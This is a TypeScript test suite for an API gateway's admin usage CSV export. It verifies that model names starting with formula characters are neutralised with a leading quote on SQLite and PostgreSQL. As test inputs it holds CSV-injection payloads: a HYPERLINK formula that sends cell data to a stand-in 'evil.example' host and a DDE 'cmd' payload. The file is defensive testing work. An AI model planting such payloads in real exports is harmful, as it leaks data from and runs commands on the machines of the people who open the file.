/**
 * /admin/usage.csv opened in a spreadsheet: a text cell a client chose (a model name) never runs
 * as a formula, numbers stay numbers. Over the admin API on SQLite and PostgreSQL, and as a
 * property of the CSV writer read back by an RFC 4180 reader.
 */
import fc from "fast-check"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { usageCsv } from "../../src/admin/csv.js"
import type { UsageRow } from "../../src/store/admin/usage.js"
import { type Backend, postgresBackend, postgresReachable, sqliteBackend } from "../store/harness.js"
import { ADMIN_TOKEN, type GatewayWithAdmin, respond, startWithAdmin } from "../support/adminGateway.js"

/** RFC 4180, as a spreadsheet reads it: rows of cells, quotes removed. */
const parseCsv = (text: string): Array<Array<string>> => {
  const rows: Array<Array<string>> = []
  let row: Array<string> = []
  let cell = ""
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === "\"" && text[i + 1] === "\"") {
        cell += "\""
        i++
      } else if (c === "\"") quoted = false
      else cell += c
    } else if (c === "\"") quoted = true
    else if (c === ",") {
      row.push(cell)
      cell = ""
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ""
      i++
    } else cell += c
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell])
  return rows
}

/** What OWASP lists as the start of a formula (CSV injection). */
const FORMULA_START = ["=", "+", "-", "@", "\t", "\r"]

const row = (bucket: string, cost_micros = 1_500_000): UsageRow => ({
  bucket,
  requests: 3,
  input_tokens: 10,
  output_tokens: 20,
  cache_read_tokens: 0,
  cache_creation_tokens: 0,
  cost_micros
})

describe("the usage CSV writer", () => {
  it("reads back every text cell as sent, with a quote in front of a formula start, and nothing else changed", () => {
    const text = fc.oneof(fc.string(), fc.constantFrom(...FORMULA_START).chain((c) => fc.string().map((s) => c + s)))
    fc.assert(fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (buckets) => {
      const parsed = parseCsv(usageCsv("model", buckets.map((b) => row(b))))
      expect(parsed[0]).toEqual(["model", "requests", "input_tokens", "output_tokens", "cache_read_tokens", "cache_creation_tokens", "cost_usd"])
      parsed.slice(1).forEach((cells, i) => {
        const bucket = buckets[i]!
        const formula = FORMULA_START.some((c) => bucket.startsWith(c))
        expect(cells[0]).toBe(formula ? `'${bucket}` : bucket)
        expect(cells.slice(1)).toEqual(["3", "10", "20", "0", "0", "1.50"])
      })
    }))
  })

  it("quotes a neutralised cell, and leaves a negative cost a number", () => {
    const csv = usageCsv("model", [row("=HYPERLINK(\"http://evil\",\"x\")", -250_000), row("@SUM(A1)"), row("-2+3")])
    expect(csv.split("\r\n")[1]).toBe("\"'=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\",3,10,20,0,0,-0.25")
    expect(csv.split("\r\n")[2]).toBe("\"'@SUM(A1)\",3,10,20,0,0,1.50")
    expect(csv.split("\r\n")[3]).toBe("\"'-2+3\",3,10,20,0,0,1.50")
  })
})

const csvOverApi = (makeBackend: () => Backend) => {
  let backend: Backend
  const running: Array<GatewayWithAdmin> = []
  beforeAll(() => {
    backend = makeBackend()
  })
  afterAll(async () => {
    for (const r of running) await r.close().catch(() => undefined)
    await backend.cleanup()
  })

  it("a model a client named as a formula lands in /admin/usage.csv as text", async () => {
    const r = await startWithAdmin(await backend.fresh())
    running.push(r)
    const models = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-1+2", "@SUM(1+1)", "gpt-5.4"]
    for (const model of models) expect(await respond(r.gateway, "sk-admin-config-key-0001", model)).toBe(200)
    const res = await fetch(`${r.admin}/admin/usage.csv?by=model`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } })
    expect(res.status).toBe(200)
    const rows = parseCsv(await res.text()).slice(1)
    const cells = new Map(rows.map((cells) => [cells[0], cells]))
    for (const model of models) {
      const cell = model === "gpt-5.4" ? model : `'${model}`
      expect(cells.get(cell)?.[1]).toBe("1")
    }
    for (const cells of rows) {
      expect(FORMULA_START.some((c) => cells[0]!.startsWith(c))).toBe(false)
      // The numeric columns stay plain numbers, never quoted or prefixed.
      for (const n of cells.slice(1)) expect(n).toMatch(/^-?\d+(\.\d+)?$/)
    }
  })
}

describe("/admin/usage.csv on SQLite", () => {
  csvOverApi(sqliteBackend)
})

const pg = await postgresReachable()
describe.skipIf(!pg)("/admin/usage.csv on PostgreSQL", () => {
  csvOverApi(postgresBackend)
})
